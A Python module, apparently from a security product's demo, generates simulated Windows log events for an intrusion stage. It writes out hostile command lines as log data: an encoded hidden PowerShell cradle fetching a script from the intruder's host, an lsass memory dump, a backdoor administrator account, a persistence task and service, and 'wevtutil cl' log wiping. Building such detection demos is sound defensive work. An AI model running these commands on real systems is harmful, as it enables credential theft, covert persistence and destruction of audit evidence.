"""Stage 8 of the break-in and the Windows half of 10: a server is taken, its log cleared."""

import random
from base64 import b64encode
from collections.abc import Iterator
from datetime import datetime, timedelta

from appliance.demo.company import Company, randomness
from appliance.demo.hours import seconds
from appliance.demo.message import DemoMessage
from appliance.demo.windows_logs import SECURITY, SYSMON, SYSTEM, SYSTEM32, event, logon, process

_POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
_COMMAND = SYSTEM32 + "cmd.exe"


def stages(company: Company, seed: int, end: datetime) -> Iterator[DemoMessage]:
    """What happens on the Windows server, from 26 to 12 minutes before the end."""
    chance = randomness(seed, "intrusion windows")
    yield from _entered(chance, end - timedelta(minutes=26), company)
    yield from _programs(chance, end - timedelta(minutes=25), company)
    yield from _passwords_read(chance, end - timedelta(minutes=24), company)
    yield from _kept(chance, end - timedelta(minutes=23), company)
    yield from _log_cleared(chance, end - timedelta(minutes=13), company)


def _entered(chance: random.Random, time: datetime, company: Company) -> Iterator[DemoMessage]:
    """From the bastion, with an administrator's account: eight wrong passwords, one right."""
    computer = company.intruder.target.name
    account, address = company.intruder.administrator.account, company.bastion.address
    for _ in range(8):
        yield logon(time, company, computer, account, address, kind=3, succeeded=False)
        time += seconds(chance, 1, 3)
    yield logon(time, company, computer, account, address, kind=3)
    yield event(
        time + timedelta(milliseconds=2),
        company,
        computer,
        SECURITY,
        4672,
        SubjectUserName=account,
        SubjectDomainName=company.workgroup,
        PrivilegeList="SeDebugPrivilege SeBackupPrivilege SeImpersonatePrivilege",
    )


def _started(
    chance: random.Random, time: datetime, company: Company, image: str, command_line: str
) -> Iterator[DemoMessage]:
    yield from process(
        time,
        company,
        company.intruder.target.name,
        company.intruder.administrator.account,
        image,
        command_line,
        parent=_COMMAND,
        process_id=chance.randrange(4_000, 20_000),
        integrity="High",
    )


def _programs(chance: random.Random, time: datetime, company: Company) -> Iterator[DemoMessage]:
    """Who am I, who is there, and a hidden script from outside."""
    script = f"IEX (New-Object Net.WebClient).DownloadString('http://{company.intruder.address}/a')"
    encoded = b64encode(script.encode("utf-16-le")).decode()
    for image, command_line in (
        (SYSTEM32 + "whoami.exe", "whoami /all"),
        (SYSTEM32 + "net.exe", "net user /domain"),
        (SYSTEM32 + "net.exe", 'net group "Domain Admins" /domain'),
        (_POWERSHELL, f"powershell.exe -nop -w hidden -enc {encoded}"),
    ):
        yield from _started(chance, time, company, image, command_line)
        time += seconds(chance, 4, 12)


def _passwords_read(
    chance: random.Random, time: datetime, company: Company
) -> Iterator[DemoMessage]:
    """The memory of lsass.exe is written to a file."""
    image = SYSTEM32 + "rundll32.exe"
    dump = "C:\\Windows\\Temp\\d.bin"
    command_line = f"rundll32.exe {SYSTEM32}comsvcs.dll, MiniDump 704 {dump} full"
    yield from _started(chance, time, company, image, command_line)
    yield event(
        time + timedelta(milliseconds=300),
        company,
        company.intruder.target.name,
        SYSMON,
        10,
        SourceImage=image,
        TargetImage=SYSTEM32 + "lsass.exe",
        GrantedAccess="0x1fffff",
        CallTrace=f"{SYSTEM32}ntdll.dll+9d4c4|{SYSTEM32}KERNELBASE.dll+2c13e|{SYSTEM32}dbgcore.DLL+6ead",
        SourceUser=f"{company.workgroup}\\{company.intruder.administrator.account}",
    )
    yield event(
        time + timedelta(milliseconds=900),
        company,
        company.intruder.target.name,
        SYSMON,
        11,
        Image=image,
        TargetFilename=dump,
        User=f"{company.workgroup}\\{company.intruder.administrator.account}",
    )


def _kept(chance: random.Random, time: datetime, company: Company) -> Iterator[DemoMessage]:
    """An account in the Administrators, a service and a task that start the intruder again."""
    computer, account = company.intruder.target.name, company.intruder.account
    actor = {
        "SubjectUserName": company.intruder.administrator.account,
        "SubjectDomainName": company.workgroup,
    }
    image = f"C:\\Windows\\Temp\\{account}.exe"
    task = (
        '<Task version="1.2"><Triggers><LogonTrigger/></Triggers><Actions><Exec>'
        f"<Command>powershell.exe</Command><Arguments>-w hidden -f C:\\ProgramData\\{account}.ps1"
        "</Arguments></Exec></Actions></Task>"
    )
    member = f"S-1-5-21-1004336348-1177238915-682003330-{chance.randrange(1100, 1999)}"
    security: tuple[tuple[int, dict[str, object]], ...] = (
        (4720, {"TargetUserName": account, "TargetDomainName": computer}),
        (
            4732,
            {
                "TargetUserName": "Administrators",
                "TargetDomainName": "Builtin",
                "TargetSid": "S-1-5-32-544",
                "MemberName": f"CN={account}",
                "MemberSid": member,
            },
        ),
        (4697, {"ServiceName": account, "ServiceFileName": image, "ServiceType": "0x10"}),
        (4698, {"TaskName": f"\\{account}", "TaskContent": task}),
    )
    yield from _started(
        chance, time, company, SYSTEM32 + "net.exe", f"net user {account} P4ssw0rd!{account} /add"
    )
    for event_id, data in security:
        time += seconds(chance, 2, 12)
        yield event(time, company, computer, SECURITY, event_id, **actor, **data)
    yield event(
        time + timedelta(milliseconds=10),
        company,
        computer,
        SYSTEM,
        7045,
        ServiceName=account,
        ImagePath=image,
        ServiceType="user mode service",
        StartType="auto start",
        AccountName="LocalSystem",
    )


def _log_cleared(chance: random.Random, time: datetime, company: Company) -> Iterator[DemoMessage]:
    """wevtutil empties the logs; the emptying itself is what remains in them."""
    computer, account = company.intruder.target.name, company.intruder.administrator.account
    for log, channel, event_id in (("Security", SECURITY, 1102), ("System", SYSTEM, 104)):
        image = SYSTEM32 + "wevtutil.exe"
        yield from _started(chance, time, company, image, f"wevtutil cl {log}")
        yield event(
            time + timedelta(milliseconds=400),
            company,
            computer,
            channel,
            event_id,
            provider="Microsoft-Windows-Eventlog",
            SubjectUserName=account,
            SubjectDomainName=company.workgroup,
            SubjectLogonId="0x5d81c",
        )
        time += seconds(chance, 10, 20)
